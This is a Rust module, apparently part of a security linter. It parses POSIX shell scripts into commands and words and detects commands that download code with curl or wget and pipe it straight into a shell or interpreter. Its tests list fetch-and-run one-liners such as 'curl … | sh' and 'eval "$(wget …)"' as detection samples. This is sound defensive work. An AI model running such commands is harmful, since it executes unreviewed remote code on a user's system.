//! Scripts for a POSIX shell, taken apart as far as checks need it: commands, their words, and what pipes into what. Linear in the text; a script that no shell
//! would read is taken apart all the same.

use std::borrow::Cow;

/// A command of a script.
#[derive(Clone, Debug)]
pub(super) struct Command<'a> {
    /// Its words, redirections among them.
    pub(super) words: Vec<Word<'a>>,
    /// What joins it to the command before.
    pub(super) joint: Joint,
}

/// What joins a command to the one before.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Joint {
    /// Nothing, or `;`, `&`, `&&`, `||`, a newline, a bracket.
    After,
    /// A pipe.
    Pipe,
}

/// A word as it is written.
#[derive(Clone, Copy, Debug)]
pub(super) struct Word<'a> {
    /// With its quotes.
    pub(super) raw: &'a str,
    /// Where it begins in the script.
    pub(super) start: usize,
}

/// How deep scripts in words (`$(…)`) are looked into.
const DEEPEST: usize = 3;

/// Words that stand before a command and are none.
const BEFORE: &[&str] = &["then", "do", "else", "elif", "if", "while", "until", "!", "{", "time", "exec", "command", "env", "nohup", "sudo", "doas", "set"];

impl Word<'_> {
    /// Without its quotes and backslashes.
    pub(super) fn plain(&self) -> Cow<'_, str> {
        if self.raw.contains(['"', '\'', '\\']) {
            Cow::Owned(self.raw.chars().filter(|character| !matches!(character, '"' | '\'' | '\\')).collect())
        } else {
            Cow::Borrowed(self.raw)
        }
    }

    /// The byte behind its last one.
    pub(super) fn end(&self) -> usize {
        self.start + self.raw.len()
    }
}

impl Command<'_> {
    /// The words from the program on: what stands before it (assignments, `sudo`, `env`, `if` …) is passed over.
    pub(super) fn program_and_arguments(&self) -> &[Word<'_>] {
        let mut wrapped = false;
        let at = self.words.iter().position(|word| {
            let raw = word.raw;
            if BEFORE.contains(&raw) {
                wrapped = true;
                return false;
            }
            let assigned =
                raw.split_once('=').is_some_and(|(name, _)| !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_'));
            !(assigned || wrapped && raw.starts_with('-'))
        });
        at.map_or(&[], |at| &self.words[at..])
    }

    /// The program's name without its folder; empty where there is none.
    pub(super) fn program(&self) -> String {
        self.program_and_arguments().first().map_or_else(String::new, |word| word.plain().rsplit('/').next().unwrap_or_default().to_owned())
    }

    /// The arguments without their quotes.
    pub(super) fn arguments(&self) -> Vec<Cow<'_, str>> {
        self.program_and_arguments().iter().skip(1).map(Word::plain).collect()
    }

    /// True where `sudo` or another word of the kind stands before the program.
    pub(super) fn stands_behind(&self, word: &str) -> bool {
        let before = self.words.len() - self.program_and_arguments().len();
        self.words[..before].iter().any(|other| other.raw == word)
    }
}

/// The commands of a script in their order; those in `$(…)`, `<(…)` and backticks behind the one that they stand in.
pub(super) fn commands(script: &str) -> Vec<Command<'_>> {
    let mut out = Vec::new();
    let mut todo = vec![(script, 0, 0)];
    while let Some((text, offset, depth)) = todo.pop() {
        let from = out.len();
        Scanner { text, at: 0, offset, joint: Joint::After, words: Vec::new(), heredocs: Vec::new(), out: &mut out }.run();
        if depth < DEEPEST {
            let words = out[from..].iter().flat_map(|command: &Command<'_>| command.words.iter());
            todo.extend(words.flat_map(inner).map(|(inner, start)| (inner, start, depth + 1)));
        }
    }
    out
}

/// The scripts in a word.
fn inner<'a>(word: &Word<'a>) -> Vec<(&'a str, usize)> {
    let (raw, bytes) = (word.raw, word.raw.as_bytes());
    let mut out = Vec::new();
    let mut tick = None;
    let mut at = 0;
    while at < bytes.len() {
        match bytes[at] {
            b'$' | b'<' if bytes.get(at + 1) == Some(&b'(') => {
                let (begin, end) = (at + 2, closing(raw, at + 2));
                out.push((&raw[begin..end], word.start + begin));
                at = end;
            }
            b'`' => match tick.take() {
                None => tick = Some(at + 1),
                Some(begin) => out.push((&raw[begin..at], word.start + begin)),
            },
            _ => {}
        }
        at += 1;
    }
    out
}

/// Where the bracket that was opened before this byte is closed, or the end.
fn closing(text: &str, from: usize) -> usize {
    let mut depth = 1_usize;
    for (at, byte) in text.bytes().enumerate().skip(from) {
        match byte {
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return at;
        }
    }
    text.len()
}

struct Scanner<'a, 'o> {
    text: &'a str,
    at: usize,
    offset: usize,
    joint: Joint,
    words: Vec<Word<'a>>,
    /// The terminators of here-documents that begin at the next newline.
    heredocs: Vec<String>,
    out: &'o mut Vec<Command<'a>>,
}

impl Scanner<'_, '_> {
    fn run(mut self) {
        let bytes = self.text.as_bytes();
        while let Some(byte) = bytes.get(self.at) {
            match byte {
                b' ' | b'\t' | b'\r' => self.at += 1,
                b'\\' if matches!(bytes.get(self.at + 1), Some(b'\n')) => self.at += 2,
                b'\\' if bytes[self.at + 1..].starts_with(b"\r\n") => self.at += 3,
                b'#' => self.at = self.text[self.at..].find('\n').map_or(self.text.len(), |line| self.at + line),
                b'\n' => self.newline(),
                b'|' if bytes.get(self.at + 1) != Some(&b'|') => {
                    // `|&` pipes both outputs.
                    self.at += if bytes.get(self.at + 1) == Some(&b'&') { 2 } else { 1 };
                    self.end(Joint::Pipe);
                }
                b'|' | b';' | b'&' | b'(' | b')' => {
                    self.at += 1;
                    self.end(Joint::After);
                }
                _ => self.word(),
            }
        }
        self.end(Joint::After);
    }

    fn end(&mut self, next: Joint) {
        if self.words.is_empty() {
            // A newline behind a pipe goes on with it.
            if next == Joint::Pipe {
                self.joint = next;
            }
            return;
        }
        self.out.push(Command { words: std::mem::take(&mut self.words), joint: self.joint });
        self.joint = next;
    }

    fn newline(&mut self) {
        self.at += 1;
        self.end(Joint::After);
        for terminator in std::mem::take(&mut self.heredocs) {
            while self.at < self.text.len() {
                let line = self.text[self.at..].split('\n').next().unwrap_or_default();
                self.at = (self.at + line.len() + 1).min(self.text.len());
                if line.trim_start_matches('\t').trim_end_matches('\r').trim() == terminator {
                    break;
                }
            }
        }
    }

    fn word(&mut self) {
        let (text, start) = (self.text, self.at);
        let bytes = text.as_bytes();
        let mut at = start;
        while let Some(byte) = bytes.get(at) {
            match byte {
                b'\'' => at = quoted(text, at + 1, b'\''),
                b'"' => at = quoted(text, at + 1, b'"'),
                b'\\' => at += 2,
                b'$' | b'<' | b'>' if bytes.get(at + 1) == Some(&b'(') => at = (closing(text, at + 2) + 1).min(text.len()),
                // `2>&1` and `&>` are of the word.
                b'&' if at > start && bytes[at - 1] == b'>' || at == start => at += 1,
                b' ' | b'\t' | b'\r' | b'\n' | b'|' | b';' | b'&' | b'(' | b')' => break,
                _ => at += 1,
            }
        }
        let mut at = at.min(text.len());
        while !text.is_char_boundary(at) {
            at += 1;
        }
        self.at = at;
        let word = Word { raw: &text[start..at], start: self.offset + start };
        self.heredoc(word.raw);
        self.words.push(word);
    }

    fn heredoc(&mut self, raw: &str) {
        let awaited = self.words.last().is_some_and(|word| word.raw.ends_with("<<") || word.raw.ends_with("<<-"));
        let named = raw.trim_start_matches(|digit: char| digit.is_ascii_digit()).strip_prefix("<<").map(|rest| rest.strip_prefix('-').unwrap_or(rest));
        let name = match named {
            Some(rest) if rest.starts_with('<') => return,
            Some(rest) => rest,
            None if awaited => raw,
            None => return,
        };
        let name: String = name.chars().filter(|character| !matches!(character, '"' | '\'' | '\\')).collect();
        if !name.is_empty() {
            self.heredocs.push(name);
        }
    }
}

/// The byte behind the closing quote, or the end.
fn quoted(text: &str, from: usize, quote: u8) -> usize {
    let bytes = text.as_bytes();
    let mut at = from;
    while let Some(byte) = bytes.get(at) {
        match byte {
            b'\\' if quote == b'"' => at += 2,
            byte if *byte == quote => return at + 1,
            _ => at += 1,
        }
    }
    text.len()
}

/// Programs that fetch something.
const FETCHES: &[&str] = &["curl", "wget", "fetch", "aria2c", "lwp-request"];
/// Programs that run what they are given at their standard input.
const RUNS: &[&str] = &["sh", "bash", "zsh", "ash", "dash", "ksh", "fish", "python", "python2", "python3", "perl", "ruby", "node", "php"];

/// Commands that run what another fetches, before anybody could look at it or compare its digest: the start and end of each in the script, with the program
/// that runs it.
pub(super) fn piped_downloads(commands: &[Command<'_>]) -> Vec<(usize, usize, String)> {
    let mut out = Vec::new();
    let mut fetching: Option<usize> = None;
    for command in commands {
        if command.joint != Joint::Pipe {
            fetching = None;
        }
        let program = command.program();
        let (Some(first), Some(last)) = (command.words.first(), command.words.last()) else { continue };
        if FETCHES.contains(&program.as_str()) && !is_local(command) {
            fetching = Some(first.start);
        } else if let Some(start) = fetching
            && RUNS.contains(&program.as_str())
            && runs_input(command)
        {
            out.push((start, last.end(), program));
        } else if (RUNS.contains(&program.as_str()) || matches!(program.as_str(), "eval" | "source" | "."))
            && command.words.iter().any(|word| is_fetched(word.raw))
        {
            out.push((first.start, last.end(), program));
        }
    }
    out
}

fn is_local(command: &Command<'_>) -> bool {
    command.words.iter().any(|word| ["//localhost", "//127.0.0.1", "//[::1]"].iter().any(|host| word.raw.contains(host)))
}

/// True where a program reads its program from its standard input: no file and no `-c` or `-m` is given.
fn runs_input(command: &Command<'_>) -> bool {
    let arguments = command.arguments();
    let redirects = |argument: &str| argument.starts_with(['<', '>']) || argument.starts_with("2>") || argument.starts_with("1>") || argument.starts_with("&>");
    let first = arguments.iter().find(|argument| !redirects(argument));
    match first.map(AsRef::as_ref) {
        None | Some("-") => true,
        Some(option) if option.starts_with("--") => true,
        Some(option) if option.starts_with('-') && command.program().ends_with("sh") => !option.contains('c'),
        Some(_) => false,
    }
}

/// True for a word that puts in what a program fetches: `"$(curl …)"`, `<(wget …)`.
fn is_fetched(raw: &str) -> bool {
    ["$(", "<(", "`"].iter().any(|open| {
        raw.match_indices(open).any(|(at, open)| {
            let near = raw[at + open.len()..].chars().take(80);
            let program: String = near.skip_while(char::is_ascii_whitespace).take_while(|character| !character.is_ascii_whitespace()).collect();
            FETCHES.contains(&program.rsplit('/').next().unwrap_or_default())
        })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(script: &str) -> Vec<String> {
        commands(script).iter().map(|command| command.words.iter().map(|word| word.raw).collect::<Vec<_>>().join(" ")).collect()
    }

    #[test]
    fn x1_a_script_is_taken_apart_into_commands_and_words() {
        let script = "set -eux; a 'b; c' \"d && e\" && X=1 sudo -E f > g 2>&1 | h # i | j\nk $(l | m) \\\n  n <<EOF\ncurl x | sh\nEOF\no";
        assert_eq!(shown(script), ["set -eux", "a 'b; c' \"d && e\"", "X=1 sudo -E f > g 2>&1", "h", "k $(l | m) n <<EOF", "o", "l", "m"]);
        let all = commands(script);
        assert_eq!((all[2].program().as_str(), all[2].stands_behind("sudo"), all[3].joint), ("f", true, Joint::Pipe));
        for word in all.iter().flat_map(|command| &command.words) {
            assert_eq!(&script[word.start..word.end()], word.raw);
        }
    }

    #[test]
    fn x1_what_is_fetched_and_run_unseen_is_found() {
        for bad in [
            "curl -fsSL https://example.com/install.sh | sh",
            "wget -qO- https://example.com/x | sudo -E bash -",
            "curl https://example.com/x | bash -s -- --yes",
            "curl https://example.com/x |\n  sh",
            "sh -c \"$(curl -fsSL https://example.com/x)\"",
            "bash <(curl -s https://example.com/x)",
            "eval \"$(wget -O - https://example.com/x)\"",
            "curl https://example.com/x.gz | gunzip | python3 -",
            "test -x y || (curl https://example.com/x | sh)",
        ] {
            assert_eq!(piped_downloads(&commands(bad)).len(), 1, "{bad}");
        }
        for good in [
            "curl -fsSLo x https://example.com/x && sha256sum -c x.sum && sh x",
            "curl https://example.com/x | tar xz",
            "curl https://example.com/x | python3 -c 'import json'",
            "curl https://example.com/x | python3 -m json.tool",
            "curl https://example.com/x | bash check.sh",
            "curl http://localhost:80/x | sh",
            "echo 'curl x | sh'",
            "cat <<EOF\ncurl https://example.com/x | sh\nEOF",
            "curl x; sh",
            "version=$(curl https://example.com/version)",
        ] {
            assert!(piped_downloads(&commands(good)).is_empty(), "{good}");
        }
    }

    #[test]
    fn x1_hostile_scripts_are_taken_apart_in_linear_time() {
        for script in [
            "$(".repeat(50_000),
            "`".repeat(50_001),
            "\"".repeat(50_001),
            "<<A\n".repeat(20_000),
            "a|".repeat(50_000),
            "\\".repeat(50_001),
            "ä(\\ä".repeat(9_000),
        ] {
            let _found = piped_downloads(&commands(&script)).len();
        }
    }
}
